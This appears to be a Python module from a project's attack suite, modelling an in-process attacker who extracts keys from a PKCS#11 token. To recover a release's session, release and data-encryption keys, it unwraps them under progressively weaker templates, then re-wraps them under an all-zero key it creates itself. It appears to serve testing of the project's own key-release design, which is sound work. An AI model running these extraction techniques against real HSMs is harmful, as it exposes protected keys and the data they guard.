"""What a live attacker carries away of a release: every key below the transport key.

The attacker is in the server's process: the transport key, the release, O, and the choice of every
template are his.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Final

from attacks.hsm_interface import Interface, oaep
from attacks.hsm_loot import Target
from twinlock.core.primitives import aes_key_unwrap
from twinlock.core.release import ReleaseMessage
from twinlock.token.ck import Cka, Ckm, Cko
from twinlock.token.policy import secret_key, session_attributes
from twinlock.token.profiles import TokenProfile
from twinlock.token.structures import Attributes

LEVELS: Final = ("session_key", "release_key", "dek")
_USAGE: Final = {"session_key": Cka.UNWRAP, "release_key": Cka.UNWRAP, "dek": Cka.DECRYPT}


@dataclass(slots=True)
class Loot:
    """Keys in the clear, by level: the release's AES key, release keys, DEKs."""

    keys: dict[str, list[bytes]] = field(default_factory=lambda: {level: [] for level in LEVELS})

    @property
    def all(self) -> list[bytes]:
        """Every key, whatever it was."""
        return [key for level in LEVELS for key in self.keys[level]]

    def add(self, other: Loot) -> None:
        """Take another release's loot too."""
        for level, keys in other.keys.items():
            self.keys[level] += keys


def transport_keys(api: Interface, *, token: bool = False) -> list[int]:
    """Private keys that unwrap: the transport keys that live now."""
    return api.objects({Cka.CLASS: Cko.PRIVATE_KEY, Cka.UNWRAP: True, Cka.TOKEN: token})


def rob(
    api: Interface,
    profile: TokenProfile,
    transports: Iterable[int],
    release: ReleaseMessage,
    targets: Mapping[bytes, Target],
) -> Loot:
    """Read what comes out at each level. ``targets``: half-opened records, by DEK id."""
    loot = Loot()
    templates = session_attributes(profile)
    for transport in transports:
        session = _read(
            api, loot, "session_key", Ckm.RSA_PKCS_OAEP, transport, release.session_key, templates
        )
        for item in release.items if session is not None else ():
            above = loot.keys["release_key"]
            known = len(above)
            key = _read(
                api,
                loot,
                "release_key",
                Ckm.AES_KEY_WRAP,
                session,
                item.wrapped_release_key,
                templates,
            )
            wrapped = targets[item.dek_id].wrapped_dek
            dek = _read(api, loot, "dek", Ckm.AES_KEY_WRAP, key, wrapped, templates)
            if dek is None and len(above) > known:
                loot.keys["dek"].append(aes_key_unwrap(above[-1], wrapped))
    return loot


def _read(
    api: Interface,
    loot: Loot,
    level: str,
    mechanism: Ckm,
    parent: int | None,
    wrapped: bytes,
    templates: Mapping[str, Attributes],
) -> int | None:
    """Unwrap under the weakest template that the token takes; the key's handle, if it unwraps."""
    if parent is None:
        return None
    how = oaep() if mechanism == Ckm.RSA_PKCS_OAEP else None
    plain = secret_key(_USAGE[level])
    weaker: Sequence[Attributes] = (
        {**plain, Cka.SENSITIVE: False, Cka.EXTRACTABLE: True},
        {**plain, Cka.EXTRACTABLE: True},
        templates[level],
    )
    for attributes in weaker:
        handle = api.unwrap(mechanism, how, parent, wrapped, attributes)
        if handle is not None:
            value = api.attribute(handle, Cka.VALUE) or _wrapped_out(api, handle)
            if value:
                loot.keys[level].append(value)
            return handle
    return None


def _wrapped_out(api: Interface, handle: int) -> bytes | None:
    own = api.create({**secret_key(Cka.WRAP), Cka.VALUE: bytes(32)})
    wrapped = api.wrap(Ckm.AES_KEY_WRAP, None, own, handle) if own is not None else None
    return aes_key_unwrap(bytes(32), wrapped) if wrapped else None
